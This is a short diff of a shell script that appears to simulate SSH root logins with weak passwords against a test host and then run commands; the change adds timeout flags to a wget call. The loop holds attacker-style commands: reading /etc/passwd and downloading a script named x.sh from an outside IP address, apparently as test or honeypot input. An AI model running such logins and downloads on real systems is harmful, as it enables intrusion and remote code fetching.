@@ -72,7 +72,7 @@ login() { # password, command...
 }
 typed "ssh root@$linux            (password: letmein)"
 login letmein id 2>&1 || true
-for command in 'uname -a' 'id; cat /etc/passwd | head -3' 'wget http://198.51.100.7/x.sh'; do
+for command in 'uname -a' 'id; cat /etc/passwd | head -3' 'wget -T 2 -t 1 http://198.51.100.7/x.sh'; do
 	typed "ssh root@$linux '$command'    (password: toor)"
 	login toor "$command" 2>&1 || true
 done
